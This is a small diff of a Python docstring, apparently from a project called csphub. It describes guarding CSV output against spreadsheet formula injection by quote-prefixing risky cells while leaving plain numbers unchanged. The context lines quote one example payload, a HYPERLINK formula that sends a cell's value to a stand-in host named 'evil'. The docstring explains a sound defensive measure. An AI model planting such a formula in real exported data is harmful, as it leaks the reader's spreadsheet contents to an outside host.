@@ -4,8 +4,8 @@ A spreadsheet opening a CSV treats a cell that starts with ``=``, ``+``, ``-`` o
 tab or carriage return can hide one), so a case title ``=HYPERLINK("http://evil/?"&A1, "Click")`` would run on the
 reader's machine. Following OWASP, such a cell is prefixed with a single quote, which spreadsheets show as text.
 
-A plain number (``-12``, ``+44``, ``-0.5``, ``1e-3``, ``-inf``) cannot be a formula and is kept as it is, so figures stay
-figures. Every CSV csphub writes goes through :func:`cell` (or :func:`row` / :func:`writer`).
+A plain number (``-12``, ``+44``, ``-0.5``, ``1e-3``, ``-inf``) cannot be a formula and is kept as it is, so
+figures stay figures. Every CSV csphub writes goes through :func:`cell` (or :func:`row` / :func:`writer`).
 """
 
 from __future__ import annotations
